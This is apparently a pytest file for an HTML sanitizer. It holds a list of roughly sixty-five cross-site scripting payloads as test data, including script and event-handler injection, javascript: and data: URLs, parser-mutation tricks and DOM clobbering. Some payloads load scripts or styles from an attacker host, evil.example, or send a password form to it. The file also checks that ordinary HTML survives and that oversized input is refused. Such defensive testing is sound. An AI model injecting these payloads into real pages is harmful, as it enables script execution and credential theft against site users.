"""HTML of channels is safe to insert into a page: a corpus of attacks, and what remains of ordinary HTML."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.model.validation import InvalidValueError
from gateway.sdk.html import ATTRIBUTES, MAX_TAGS, SCHEMES, TAGS, extract_text, sanitize_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    '<img src="x`onerror=alert(1)">',
    "<img/src=`x`/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img alt='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><img alt='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td><iframe src=javascript:alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/account/delete'>x</a>",
    "<a href='https://a.example' target=_blank ping=https://evil.example onclick=alert(1)>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=https://a.example/x.png srcset='javascript:alert(1) 2x' usemap=#x lowsrc=javascript:alert(1)>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<p style='position:fixed;inset:0'>x</p>",
    "<div id=app class=login name=cookie>x</div>",
    "<img name=getElementById><form id=x><input name=attributes></form>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "</p><script>alert(1)</script>",
    "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
    '<li><a href="https://a.example" rel="opener">x</a>',
    "\u2028<script\u2028>alert(1)</script>",
    "<" * 4000,
    "<b" * 2000,
]
"""Attacks of known kinds: scripts, events, schemes, mutation of the parsed tree, clobbering, style, broken markup."""


class Inspector(HTMLParser):
    """Lists what HTML has that the allow-list does not allow."""

    def __init__(self) -> None:
        super().__init__()
        self.violations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"] | {"rel"}
        self.violations += [tag] if tag not in TAGS else []
        for name, value in attrs:
            self.violations += [f"{tag} {name}"] if name not in allowed else []
            is_url = name in ("href", "src")
            if is_url and (value or "").partition(":")[0].lower() not in SCHEMES:
                self.violations.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.violations.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.violations.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.violations.append(f"<?{data}")


def list_violations(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.violations


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_of_an_attack_is_left(attack: str) -> None:
    clean = sanitize_html("html", attack)
    assert list_violations(clean) == []
    assert sanitize_html("html", clean) == clean, "what is parsed again does not change: no mutation"


def test_the_proof_most_attacks_are_found_where_they_are_not_sanitized() -> None:
    assert sum(bool(list_violations(attack)) for attack in ATTACKS) > 0.8 * len(ATTACKS)


FRAGMENTS = st.sampled_from(
    [part for attack in ATTACKS[:63] for part in attack.replace("<", "\0<").replace(">", ">\0").split("\0") if part]
)


@given(st.lists(FRAGMENTS, max_size=12).map("".join))
def test_nothing_of_mixed_attacks_is_left(mixed: str) -> None:
    clean = sanitize_html("html", mixed)
    assert list_violations(clean) == []
    assert sanitize_html("html", clean) == clean


@pytest.mark.parametrize(
    "html",
    [
        "<h2>Care</h2><ul><li>Wash at 30 °C</li><li><strong>Do not</strong> bleach</li></ul>",
        '<p>See <a href="https://a.example/x?y=1&amp;z=2" rel="noopener noreferrer">this</a></p>',
        '<table><thead><tr><th scope="col">S</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        '<img src="https://a.example/x.png" alt="Front" width="40" height="30">',
        '<a href="mailto:shop@a.example" rel="noopener noreferrer">Mail</a>',
        '<p lang="de" dir="ltr">Größe</p>',
    ],
)
def test_ordinary_html_stays_as_it_is(html: str) -> None:
    assert sanitize_html("html", html) == html


@pytest.mark.parametrize("html", ["x" * 200_001, "<b>" * (MAX_TAGS + 1), "\0", "\ud800", 7, None])
def test_html_that_cannot_be_stored_or_takes_long_is_refused(html: object) -> None:
    with pytest.raises(InvalidValueError):
        sanitize_html("html", html)


def test_deeply_nested_html_is_sanitized_in_time() -> None:
    began = time.perf_counter()
    sanitize_html("html", "<div>" * MAX_TAGS)
    assert time.perf_counter() - began < 5, "40,000 of them take 7 seconds; 5,000 a tenth of one"


def test_the_text_of_html_has_a_line_for_each_block() -> None:
    html = "<h2>Care &amp; use</h2><ul><li>Wash</li><li>Dry<br>flat</li></ul><b>a</b>b"
    assert extract_text(html) == "Care & use\nWash\nDry\nflat\nab"
